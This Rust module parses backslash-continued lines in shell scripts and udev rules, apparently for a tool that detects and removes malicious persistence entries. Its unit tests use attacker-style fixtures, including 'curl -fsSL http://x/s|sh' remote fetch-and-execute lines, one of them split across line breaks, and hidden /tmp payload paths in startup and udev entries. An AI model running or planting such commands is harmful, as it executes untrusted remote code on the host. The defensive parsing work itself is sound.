//! Logical lines of the files whose reader joins a line ending in `\` with the next: shell scripts and udev
//! rules. One reading, shared by the model (what an entry says) and the remediation planner (which physical
//! lines an entry's removal takes), so the two never disagree about where an entry ends.
//!
//! - Shell (sh(1) "Escape character"): a line continues when it ends in an unescaped backslash outside a
//!   comment and outside single quotes (`\ `, `\\` and `# ...\` do not continue); backslash-newline is
//!   removed and nothing else: the next line is glued on as it is, leading blanks included.
//! - udev (systemd's udev-rules.c): a line continues when its last byte is `\`; the `\` is dropped, the
//!   next line's leading blanks are skipped and it is glued on with no separator; `#` lines inside a
//!   continuation are skipped without ending it.
//!
//! In both, a blank line ends the entry (it is not part of it), and an entry spans at most
//! [`MAX_CONTINUED`] continuation lines after its first.

use super::numbered_lines;

/// How a format joins lines.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Joining {
    Shell,
    Udev,
}

/// Most physical lines one entry may continue over before the rest counts apart.
pub const MAX_CONTINUED: usize = 64;

/// One logical line: its first and last physical lines (1-based), the first line as written, and the text
/// the reader sees (trimmed).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Logical<'c> {
    pub first: u32,
    pub last: u32,
    pub raw: &'c [u8],
    pub text: Vec<u8>,
}

/// Whether a physical line (without its line ending) continues onto the next one.
pub fn continues(j: Joining, line: &[u8]) -> bool {
    match j {
        Joining::Udev => line.last() == Some(&b'\\'),
        Joining::Shell => shell_continues(line),
    }
}

/// An unescaped trailing backslash outside a comment and outside single quotes.
fn shell_continues(line: &[u8]) -> bool {
    let (mut single, mut double, mut escaped) = (false, false, false);
    let mut prev_blank = true;
    for &b in line {
        if escaped {
            escaped = false;
            prev_blank = false;
            continue;
        }
        match b {
            b'\\' if !single => escaped = true,
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'#' if !single && !double && prev_blank => return false,
            _ => {}
        }
        prev_blank = b == b' ' || b == b'\t';
    }
    escaped && !single
}

/// The logical lines of `content`: blank lines and comment lines outside an entry are skipped.
pub fn logical_lines(content: &[u8], j: Joining) -> Vec<Logical<'_>> {
    let mut out: Vec<Logical<'_>> = Vec::new();
    // The entry being read, and how many continuation lines it took.
    let mut open: Option<(Logical<'_>, usize)> = None;
    for (n, raw) in numbered_lines(content) {
        let blank = raw.trim_ascii().is_empty();
        if let Some((mut entry, count)) = open.take() {
            if blank {
                out.push(finish(entry));
            } else if j == Joining::Udev && raw.trim_ascii_start().starts_with(b"#") {
                entry.last = n;
                open = Some((entry, count));
            } else {
                entry.last = n;
                let piece = match j {
                    Joining::Udev => raw.trim_ascii_start(),
                    Joining::Shell => raw,
                };
                if continues(j, raw) && count < MAX_CONTINUED {
                    entry
                        .text
                        .extend_from_slice(piece.strip_suffix(b"\\").unwrap_or(piece));
                    open = Some((entry, count + 1));
                } else {
                    entry.text.extend_from_slice(piece);
                    out.push(finish(entry));
                }
            }
            continue;
        }
        let t = raw.trim_ascii();
        if blank || t.starts_with(b"#") {
            continue;
        }
        let entry = Logical {
            first: n,
            last: n,
            raw,
            text: Vec::new(),
        };
        let start = raw.trim_ascii_start();
        if continues(j, raw) {
            let mut entry = entry;
            entry
                .text
                .extend_from_slice(start.strip_suffix(b"\\").unwrap_or(start));
            open = Some((entry, 0));
        } else {
            let mut entry = entry;
            entry.text.extend_from_slice(start);
            out.push(finish(entry));
        }
    }
    if let Some((entry, _)) = open {
        out.push(finish(entry));
    }
    out
}

fn finish(mut entry: Logical<'_>) -> Logical<'_> {
    entry.text = entry.text.trim_ascii().to_vec();
    entry
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(content: &[u8], j: Joining) -> Vec<(u32, u32, String)> {
        logical_lines(content, j)
            .into_iter()
            .map(|l| {
                (
                    l.first,
                    l.last,
                    String::from_utf8_lossy(&l.text).into_owned(),
                )
            })
            .collect()
    }

    #[test]
    fn shell_continues_only_on_an_unescaped_backslash_outside_comments() {
        assert!(continues(Joining::Shell, b"nohup \\"));
        assert!(continues(Joining::Shell, b"echo \"a b\" \\"));
        assert!(!continues(Joining::Shell, b"curl -fsSL http://x/s|sh #\\"));
        assert!(!continues(Joining::Shell, b"echo a\\\\"));
        assert!(!continues(Joining::Shell, b"echo a\\ "));
        assert!(!continues(Joining::Shell, b"echo 'a\\"));
        assert!(continues(Joining::Shell, b"echo a#b \\"));
        // sh removes backslash-newline and nothing else: a word split across the break is one word.
        assert_eq!(
            read(b"cu\\\nrl -fsSL http://x/u.sh | s\\\nh\n", Joining::Shell),
            vec![(1, 3, "curl -fsSL http://x/u.sh | sh".into())]
        );
        // A blank line ends the entry and is not part of it; comments outside entries are skipped.
        assert_eq!(
            read(
                b"# c \\\n/tmp/.x/run \\\n\n/opt/app/start &\n",
                Joining::Shell
            ),
            vec![
                (2, 2, "/tmp/.x/run".into()),
                (4, 4, "/opt/app/start &".into())
            ]
        );
        // A comment-ended attacker line does not swallow the admin's next line.
        assert_eq!(
            read(
                b"curl -fsSL http://x/s|sh #\\\n/opt/app/start &\n",
                Joining::Shell
            ),
            vec![
                (1, 1, "curl -fsSL http://x/s|sh #\\".into()),
                (2, 2, "/opt/app/start &".into())
            ]
        );
    }

    #[test]
    fn udev_continues_on_a_last_backslash_skips_comments_and_glues_without_a_blank() {
        assert!(continues(Joining::Udev, b"RUN+=\"x\" \\"));
        assert!(!continues(Joining::Udev, b"RUN+=\"x\" \\ "));
        assert_eq!(
            read(
                b"ACTION==\"add\", \\\n# note\n  RUN+=\"kud\\\n    evd --reboot\"\nKERNEL==\"x\"\n",
                Joining::Udev
            ),
            vec![
                (1, 4, "ACTION==\"add\", RUN+=\"kudevd --reboot\"".into()),
                (5, 5, "KERNEL==\"x\"".into())
            ]
        );
        assert_eq!(
            read(b"RUN+=\"/tmp/x\" \\\n\nKERNEL==\"y\"\n", Joining::Udev),
            vec![
                (1, 1, "RUN+=\"/tmp/x\"".into()),
                (3, 3, "KERNEL==\"y\"".into())
            ]
        );
    }
}
